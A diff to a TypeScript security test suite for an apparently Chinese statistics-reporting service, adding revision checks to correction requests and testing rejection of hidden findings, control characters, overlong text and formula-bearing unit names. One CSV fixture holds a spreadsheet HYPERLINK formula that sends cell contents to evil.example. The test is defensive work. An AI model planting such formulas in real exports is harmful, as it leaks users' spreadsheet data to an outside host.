@@ -68,9 +68,10 @@ describe('security as a hostile reporter would probe it (statledger serve on loc
   });
 
   it('refuses a reporter\u2019s correction naming a hidden finding as it refuses a made-up one, even at a stale revision', async () => {
-    const correct = (findingRef: string, expectedRevision?: number) =>
-      call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.reporter, body: { values, reason: '更正', findingRef, ...(expectedRevision === undefined ? {} : { expectedRevision }) } });
-    for (const revision of [undefined, 7]) {
+    const current = (await call('GET', `/v1/reports/${report}`, { token: TOKENS.reporter })).json.revision as number;
+    const correct = (findingRef: string, expectedRevision: number) =>
+      call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.reporter, body: { values, reason: '更正', findingRef, expectedRevision } });
+    for (const revision of [current, 7]) {
       const hidden = await correct(findingId, revision);
       const madeUp = await correct(`${planId}/${report}/9`, revision);
       expect(hidden.status).toBe(400);
@@ -82,7 +83,8 @@ describe('security as a hostile reporter would probe it (statledger serve on loc
 
   it('closes a follow-up only by a correction that changes a recounted value, and shows who made it', async () => {
     expect((await call('POST', `/v1/audits/${planId}/close`, { token: TOKENS.auditor, body: { summary: '暗查结束' } })).status).toBe(200);
-    const correct = (v: typeof values) => call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.reporter, body: { values: v, reason: '按抽查结果更正', findingRef: findingId } });
+    const revision = async () => (await call('GET', `/v1/reports/${report}`, { token: TOKENS.reporter })).json.revision as number;
+    const correct = async (v: typeof values) => call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.reporter, body: { values: v, reason: '按抽查结果更正', findingRef: findingId, expectedRevision: await revision() } });
     // The plan is closed: the reporter sees the finding, but a correction that changes nothing closes nothing.
     expect((await correct(values)).status).toBe(200);
     let finding = (await call('GET', `/v1/audits/${planId}`, { token: TOKENS.auditor })).json.findings[0];
@@ -122,7 +124,7 @@ describe('security as a hostile reporter would probe it (statledger serve on loc
   });
 
   it('refuses control characters and overlong free text, and unit names a spreadsheet would run', async () => {
-    const correct = (reason: string) => call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.admin, body: { values, reason } });
+    const correct = (reason: string) => call('POST', `/v1/reports/${report}/corrections`, { token: TOKENS.admin, body: { values, reason, expectedRevision: 0 } });
     expect(await correct('按台账更正\u001b[2J\u0007')).toMatchObject({ status: 400, json: { issues: [{ path: ['reason'], message: expect.stringMatching(/control character/) }] } });
     expect(await correct('x'.repeat(900_000))).toMatchObject({ status: 400, json: { issues: [{ path: ['reason'], message: 'the reason is longer than 2000 characters' }] } });
     const units = await call('POST', '/v1/imports/units', { token: TOKENS.admin, csv: 'code,name\n110102,"=HYPERLINK(""http://evil.example/?d=""&A1,""西城区"")"\n' });
